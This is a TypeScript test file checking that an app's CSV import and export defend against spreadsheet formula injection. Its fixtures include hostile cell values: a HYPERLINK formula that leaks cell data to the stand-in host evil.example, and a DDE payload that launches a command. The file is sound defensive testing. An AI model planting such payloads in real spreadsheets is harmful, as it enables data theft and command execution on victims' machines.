/**
 * Issue 18, formula injection (tests/fixtures/hostile/formula.csv): names beginning with `=`,
 * `+`, `-`, `@` are imported as text; every CSV the app writes (selection export in both
 * variants, the proposals' CSV, the templates) neutralises them; re-importing the app's own
 * CSV gives back the original text.
 */
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { buildDataset } from '../../../src/lib/data/dataset';
import { toCsv } from '../../../src/lib/export/csv';
import { selectionRows } from '../../../src/lib/export/selection';
import { parseCsv } from '../../../src/lib/import/csv';
import { proposalRows } from '../../../src/lib/proposals/export';
import { createProposal } from '../../../src/lib/proposals/types';
import {
  NODE_TEMPLATE_HEADER,
  NODE_TEMPLATE_ROWS,
  templateCsv,
} from '../../../src/lib/import/templates';
import { file, runImport } from '../import/helpers';
import { newTown } from '../helpers/proposal';

/** What a spreadsheet would run: a formula character first (after spaces), or a tab/CR/LF. */
const RUNS_AS_FORMULA = /^(?:[\s\u00a0\u3000]*[=+\-@\uff1d\uff0b\uff0d\uff20]|[\t\r\n])/;
const PLAIN_NUMBER = /^[-+]?\d+([.,]\d+)?$/;

function dangerousCells(csv: string, sep: ',' | ';'): string[] {
  const text = csv.charCodeAt(0) === 0xfeff ? csv.slice(1) : csv;
  return parseCsv(text, sep)
    .rows.flatMap((r) => r.cells)
    .filter((c) => RUNS_AS_FORMULA.test(c) && !PLAIN_NUMBER.test(c));
}

async function importFormulaCsv() {
  const bytes = new Uint8Array(readFileSync('tests/fixtures/hostile/formula.csv'));
  return runImport([file('formula.csv', bytes)]);
}

describe('formula.csv', () => {
  it('imports every name as text', async () => {
    const r = await importFormulaCsv();
    expect(r.issues.filter((i) => i.severity === 'error')).toEqual([]);
    const names = [...r.data!.projects.features, ...r.data!.actors.features].map(
      (f) => f.properties.name,
    );
    expect(names).toContain('=HYPERLINK("https://evil.example/?d="&A1,"Klick")');
    expect(names).toContain('@SUM(1+1)');
    expect(names).toContain("=cmd|' /C calc'!A0");
    expect(names).toHaveLength(19);
  });

  it.each([
    ['plain', false],
    ['Excel', true],
  ])(
    'the selection CSV (%s) neutralises every formula and re-imports to the same names',
    async (_, excel) => {
      const r = await importFormulaCsv();
      const ds = buildDataset(r.data!);
      const all = new Set(ds.nodes.map((n) => n.id));
      const rows = selectionRows(ds, {
        projects: new Set(ds.nodes.filter((n) => n.project).map((n) => n.id)),
        nodes: all,
        relations: new Set(ds.relations.map((x) => x.id)),
      });
      const csv = toCsv(rows, { excel });
      expect(dangerousCells(csv, excel ? ';' : ',')).toEqual([]);
      const again = await runImport([file('export.csv', csv)]);
      const byId = new Map(
        [...again.data!.projects.features, ...again.data!.actors.features].map((f) => [
          f.properties.id,
          f.properties.name,
        ]),
      );
      for (const n of ds.nodes) expect(byId.get(n.id), n.id).toBe(n.name);
    },
  );

  it('the proposals CSV neutralises notes, authors and names in both variants', () => {
    const p = createProposal({
      from: null,
      fromActor: newTown({
        name: '-2+3',
        type: '@Gemeinde',
        place: { name: '=Stadt', key: '13074079', land: 'DE-MV' },
      }),
      to: null,
      newActor: { name: '=1+1', type: 'Verein', coordinates: [10, 50] },
      note: '=HYPERLINK("https://evil.example","Klick")',
      author: '@SUM(1+1)',
    });
    const rows = proposalRows([p], () => ({ name: '+1+1', coordinates: [10, 50] }));
    for (const excel of [false, true])
      expect(dangerousCells(toCsv(rows, { excel }), excel ? ';' : ',')).toEqual([]);
  });

  it('the templates are written by the same writer', () => {
    const csv = templateCsv(NODE_TEMPLATE_HEADER, [...NODE_TEMPLATE_ROWS, ['x', '=1+1']]);
    expect(dangerousCells(csv, ';')).toEqual([]);
    expect(csv.startsWith('\ufeffid;name')).toBe(true);
  });
});
